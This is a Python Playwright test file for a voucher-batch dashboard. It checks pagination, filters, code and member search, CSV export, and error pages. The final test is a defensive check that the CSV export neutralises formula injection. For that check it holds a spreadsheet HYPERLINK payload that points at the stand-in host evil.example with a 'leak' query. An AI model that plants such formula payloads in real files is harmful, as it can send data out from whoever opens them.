"""The vouchers view of a batch: claim, member, status, redemption; filters, search, CSV export."""

from __future__ import annotations

import csv
import uuid
from datetime import UTC, datetime

from playwright.sync_api import expect


def _seed(server) -> tuple[dict, list[str]]:
    server.api.store("leeds")
    device = server.api.device("leeds", "till-7")
    batch = server.api.batch(60, identifier="Vouchers view")
    codes = [server.api.claim(batch, f"member{i}@example.com")["code"] for i in range(5)]
    events = [
        {
            "id": str(uuid.uuid4()),
            "kind": "redeem",
            "at": datetime.now(UTC).isoformat(),
            "device_seq": i,
            "voucher_id": server.api.call("GET", f"/vouchers/{c}").json()["id"],
        }
        for i, c in enumerate(codes[:2])
    ]
    server.api.call("POST", "/sync/events", 200, token=device["token"], json={"events": events})
    return batch, codes


def test_vouchers_filter_search_page_and_export(page, server, tmp_path, shot):
    batch, codes = _seed(server)
    page.goto("/dashboard/batches")
    page.locator(f"#batch-{batch['id']}").get_by_role("link", name="Vouchers", exact=True).click()
    expect(page.get_by_role("heading", name="Vouchers of Vouchers view")).to_be_visible()
    rows = page.locator("table.vouchers tbody tr")
    expect(rows).to_have_count(50)
    expect(page.locator(".pager-total")).to_have_text("1–50 of 60 vouchers")
    page.get_by_role("link", name="Next page").click()
    expect(rows).to_have_count(10)
    expect(page.locator(".pager-total")).to_have_text("51–60 of 60 vouchers")
    page.get_by_role("link", name="First page").click()
    expect(rows).to_have_count(50)

    page.get_by_label("Claim status").select_option("yes")
    page.get_by_role("button", name="Show").click()
    expect(rows).to_have_count(5)
    used = page.locator(f'tr[data-code="{codes[0]}"] td')
    expect(used.nth(3)).to_contain_text("Claimed ")
    expect(used.nth(4)).to_have_text("member0@example.com")
    expect(used.nth(5)).to_have_text("used")
    expect(used.nth(6)).to_contain_text("leeds, till-7, ")
    unused = page.locator(f'tr[data-code="{codes[4]}"] td')
    expect(unused.nth(5)).to_have_text("unused")
    expect(unused.nth(6)).to_have_text("—")
    shot(page, "vouchers")

    with page.expect_download() as info:
        page.get_by_role("link", name="Export CSV (these filters)").click()
    saved = tmp_path / "export.csv"
    info.value.save_as(saved)
    exported = list(csv.DictReader(saved.read_text().splitlines()))
    assert sorted(r["member_id"] for r in exported) == [f"member{i}@example.com" for i in range(5)]
    assert {r["code"]: r["redeemed_store"] for r in exported}[codes[0]] == "leeds"

    page.get_by_label("Claim status").select_option("")
    page.get_by_label("Status", exact=True).select_option("used")
    page.get_by_role("button", name="Show").click()
    expect(rows).to_have_count(2)

    page.get_by_role("link", name="Clear filters").click()
    page.get_by_label("Code").fill(codes[3].lower().replace("-", " "))  # as a person might type it
    page.get_by_role("button", name="Show").click()
    expect(rows).to_have_count(1)
    expect(rows.first.locator("td.code")).to_have_text(codes[3])

    page.get_by_label("Code").fill(codes[2][5:12].lower())  # part of a code, as read out over the phone
    page.get_by_role("button", name="Show").click()
    expect(page.locator(f'tr[data-code="{codes[2]}"]')).to_have_count(1)
    expect(page.locator(".pager-total")).to_contain_text("matching these filters")

    page.get_by_role("link", name="Clear filters").click()
    page.get_by_label("Member").fill("MEMBER3@")
    page.get_by_role("button", name="Show").click()
    expect(rows).to_have_count(1)
    expect(page.locator(".pager-total")).to_have_text("1 voucher matching these filters")
    rows.first.get_by_role("link", name="member3@example.com").click()
    expect(page.get_by_role("heading", name="member3@example.com")).to_be_visible()
    expect(page.locator(f'article[data-status="unused"] a.code:text-is("{codes[3]}")')).to_be_visible()
    page.go_back()

    page.get_by_label("Member").fill("")
    page.get_by_label("Code").fill("hello?")
    page.get_by_role("button", name="Show").click()
    expect(page.locator("#code-error")).to_be_visible()
    expect(page.get_by_label("Code")).to_have_attribute("aria-invalid", "true")
    expect(rows).to_have_count(0)


def test_a_batch_without_vouchers_says_so(page, server):
    batch = server.api.batch(5, state="configuring", identifier="Not generated")
    page.goto(f"/dashboard/batches/{batch['id']}/vouchers")
    expect(page.locator(".empty")).to_have_text("No vouchers yet: they exist once the batch is generated.")


def test_an_unknown_batch_is_a_page_in_words(page, server):
    response = page.goto("/dashboard/batches/b_NOSUCH/vouchers")
    assert response.status == 404
    expect(page.get_by_role("heading", name="Not found")).to_be_visible()
    expect(page.get_by_role("alert")).to_contain_text("There is no batch 'b_NOSUCH'.")


HYPERLINK_MEMBER = '=HYPERLINK("http://evil.example/?leak","Invoice")@evil.example'


def test_an_export_with_a_formula_member_id_opens_as_text(page, server, tmp_path):
    batch = server.api.batch(3, identifier="Formula export")
    server.api.claim(batch, HYPERLINK_MEMBER)
    page.goto(f"/dashboard/batches/{batch['id']}/vouchers?claimed=yes")
    with page.expect_download() as info:
        page.get_by_role("link", name="Export CSV (these filters)").click()
    saved = tmp_path / "formula.csv"
    info.value.save_as(saved)
    [row] = list(csv.DictReader(saved.read_text().splitlines()))
    assert (
        row["member_id"] == "'" + HYPERLINK_MEMBER.casefold()
    )  # a quote first: a spreadsheet shows it as text
